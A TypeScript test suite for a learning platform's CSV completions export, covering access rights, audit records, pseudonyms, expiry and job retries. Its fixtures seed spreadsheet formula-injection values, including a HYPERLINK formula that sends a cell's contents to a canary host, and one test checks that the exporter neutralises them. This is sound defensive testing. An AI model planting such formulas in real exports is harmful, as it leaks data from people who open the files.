import type { Export } from '@amelie/contract';
import { readdir, readFile } from 'node:fs/promises';
import { rowOf, rowsOf } from '../platform/database/database';
import { Failpoints } from '../platform/failpoints/failpoint';
import { buildCompletion } from '../testing/build-completion';
import {
  buildAdministrator,
  type BuiltCourse,
  buildLearner,
  buildPublishedCourse,
  buildStaff,
} from '../testing/builders';
import { startTestApp, type TestApp, type TestClient } from '../testing/test-app';
import { exportPath, exportsFolder } from './export-file';
import { sweepExports } from './sweep-exports';
import { writeExport } from './write-export';

let app: TestApp;
let staff: TestClient;
let staffId: string;
let administrator: TestClient;
let course: BuiltCourse;

const at = new Date('2026-03-09T08:17:23Z');

beforeAll(async () => {
  app = await startTestApp();
  staffId = (await buildStaff(app.database)).accountId;
  staff = await app.as(staffId);
  administrator = await app.as((await buildAdministrator(app.database)).accountId);
  course = await buildPublishedCourse(app.database, { modules: [{ kind: 'quiz' }], title: '=1+1 "a" title' });
  const people = [
    { givenName: 'Ελένη', familyName: 'Παπαδοπούλου', email: 'eleni@example.test', country: 'GR' },
    { givenName: '=HYPERLINK("http://canary?"&A1)', familyName: '+1;x', email: 'formula@example.test' },
  ];
  for (const wishes of people) {
    const { accountId } = await buildLearner(app.database, wishes);
    await buildCompletion(app.database, { accountId, course, at, score: 0.85 });
  }
  const without = await buildLearner(app.database, { email: 'without@example.test' });
  await buildCompletion(app.database, { accountId: without.accountId, course, at, certificate: null });
  const begun = await buildLearner(app.database, { email: 'begun@example.test' });
  await buildCompletion(app.database, { accountId: begun.accountId, course, at });
  await app.database.query(`update enrolment set completed_at = null where account_id = $1`, [begun.accountId]);
});
afterAll(() => app.close());

const parts = (failpoints?: string) => ({
  database: app.database,
  settings: app.config,
  failpoints: new Failpoints(failpoints),
});

async function ask(client: TestClient, withNames = false): Promise<Export> {
  const { status, body } = await client.post<Export>('/api/exports', { kind: 'completions', format: 'csv', withNames });
  expect(status).toBe(200);
  return body;
}

async function make(client: TestClient, withNames = false) {
  const { id } = await ask(client, withNames);
  await writeExport(parts(), id);
  return { id, ...(await client.get(`/api/exports/${id}/file`)) };
}

const linesOf = (text: string) =>
  text
    .replace(/^\ufeff/, '')
    .trimEnd()
    .split('\n');

describe('asking for an export', () => {
  test('a learner may not; staff may, but not with names', async () => {
    const learner = await app.as((await buildLearner(app.database)).accountId);
    const wish = { kind: 'completions', format: 'csv' };
    expect((await learner.post('/api/exports', wish)).status).toBe(403);
    const refused = await staff.post('/api/exports', { ...wish, withNames: true });
    expect(refused.status).toBe(403);
    expect(refused.body.code).toBe('not-allowed');
    expect(await rowsOf(app.database, `select 1 from export`)).toHaveLength(0);
  });

  test('the wish and its job are written together, and the audit knows of it', async () => {
    const { id, state } = await ask(staff);
    expect(state).toBe('queued');
    const job = await rowOf(app.database, `select 1 from outbox where payload ->> 'exportId' = $1`, [id]);
    expect(job).not.toBeNull();
    const audit = await rowOf<{ detail: unknown }>(
      app.database,
      `select detail from audit_event where action = 'request-export' and object_id = $1`,
      [id],
    );
    expect(audit?.detail).toEqual({ kind: 'completions', format: 'csv', withNames: false });
  });
});

describe('the file', () => {
  test('holds exactly the completions, one a row, without a name, a day or an exact score', async () => {
    const { status, text, headers, id } = await make(staff);
    expect(status).toBe(200);
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="learning-\d{4}-\d\d-\d\d\.csv"$/);
    const [header, ...rows] = linesOf(text);
    expect(header).toBe(
      'person,completed_month,country,profession,gender,course,course_version,evidence,score,certificate,synthetic',
    );
    expect(rows).toHaveLength(3);
    for (const row of rows) expect(row).toMatch(/^"p[0-9a-f]{20}","2026-03",/);
    for (const row of rows) expect(row).toMatch(/,"server-graded",0\.[89],"/);
    expect(rows.filter((row) => row.includes('"yes","no"'))).toHaveLength(2);
    expect(text).not.toMatch(/example\.test|Παπαδοπούλου|2026-03-09|08:17/);
    const row = await rowOf<{ rows: number; size: number; sha256: string }>(
      app.database,
      `select rows, size_bytes::int as size, sha256 from export where id = $1`,
      [id],
    );
    expect(row).toMatchObject({ rows: 3, size: Buffer.byteLength(text) });
    const audit = await rowOf<{ detail: Record<string, unknown> }>(
      app.database,
      `select detail from audit_event where action = 'write-export' and object_id = $1`,
      [id],
    );
    expect(audit?.detail).toMatchObject({ rows: 3, withNames: false });
  });

  test('gives a person another pseudonym in every export', async () => {
    const pseudonyms = async () => linesOf((await make(staff)).text).map((line) => line.slice(0, 24));
    const [first, second] = [await pseudonyms(), await pseudonyms()];
    expect(first.slice(1).filter((one) => second.includes(one))).toHaveLength(0);
  });

  test('with names holds them, each text harmless to a spreadsheet', async () => {
    const { status, text } = await make(administrator, true);
    expect(status).toBe(200);
    expect(text).toContain('"Ελένη","Παπαδοπούλου","eleni@example.test","2026-03-09"');
    expect(text).toContain(`"'=HYPERLINK(""http://canary?""&A1)","'+1;x"`);
    expect(text).toContain(`"'=1+1 ""a"" title",1,"server-graded",0.8500`);
    expect(text).not.toMatch(/(^|[,"])[=+@-]/m);
  });

  test('is not given before it is ready, and to nobody else', async () => {
    const { id } = await ask(administrator, true);
    const early = await administrator.get(`/api/exports/${id}/file`);
    expect(early.body.code).toBe('export-not-ready');
    await writeExport(parts(), id);
    const foreign = [await staff.get(`/api/exports/${id}`), await staff.get(`/api/exports/${id}/file`)];
    for (const answer of foreign) expect([answer.status, answer.body.code]).toEqual([404, 'not-found']);
    const { body } = await staff.get<{ exports: Export[] }>('/api/exports');
    expect(body.exports.map((one) => one.id)).not.toContain(id);
  });

  test('with names is refused to whoever lost that right since they asked', async () => {
    const { accountId } = await buildStaff(app.database);
    await app.database.query(`update account set granted_rights = '{export-names}' where id = $1`, [accountId]);
    const trusted = await app.as(accountId);
    const { id, status } = await make(trusted, true);
    expect(status).toBe(200);
    await administrator.patch(`/api/people/${accountId}`, { grantedRights: [] });
    const refused = await (await app.as(accountId)).get(`/api/exports/${id}/file`);
    expect([refused.status, refused.body.code]).toEqual([403, 'not-allowed']);
  });

  test('expires, and is then cleared away', async () => {
    const { id } = await make(staff);
    await app.database.query(`update export set expires_at = now() - interval '1 second' where id = $1`, [id]);
    expect((await staff.get(`/api/exports/${id}/file`)).body.code).toBe('export-expired');
    await sweepExports(app.database, app.config, new Date(Date.now() + 2 * 3600 * 1000));
    expect((await staff.get<Export>(`/api/exports/${id}`)).body.state).toBe('expired');
    expect(await readdir(exportsFolder(app.config))).not.toContain(`${id}.csv`);
  });
});

describe('the job', () => {
  test('done twice, also at once, writes one export', async () => {
    const { id } = await ask(staff);
    await Promise.all([writeExport(parts(), id), writeExport(parts(), id)]);
    const first = await readFile(exportPath(app.config, { id, format: 'csv' }), 'utf8');
    await writeExport(parts(), id);
    expect(await readFile(exportPath(app.config, { id, format: 'csv' }), 'utf8')).toBe(first);
    const written = await rowsOf(
      app.database,
      `select 1 from audit_event where action = 'write-export' and object_id = $1`,
      [id],
    );
    expect(written).toHaveLength(1);
  });

  test('cut off before the end leaves an export that is not ready, and the next try finishes it', async () => {
    const { id } = await ask(staff);
    await expect(writeExport(parts('export.before-ready=throw'), id)).rejects.toThrow('fail point');
    expect((await staff.get<Export>(`/api/exports/${id}`)).body.state).toBe('writing');
    expect((await staff.get(`/api/exports/${id}/file`)).body.code).toBe('export-not-ready');
    await writeExport(parts(), id);
    expect((await staff.get<Export>(`/api/exports/${id}`)).body).toMatchObject({ state: 'ready', rows: 3 });
  });

  test('given up after an hour, says so', async () => {
    const { id } = await ask(staff);
    await app.database.query(`update export set requested_at = now() - interval '2 hours' where id = $1`, [id]);
    await sweepExports(app.database, app.config, new Date());
    expect((await staff.get(`/api/exports/${id}/file`)).body.code).toBe('export-failed');
  });
});
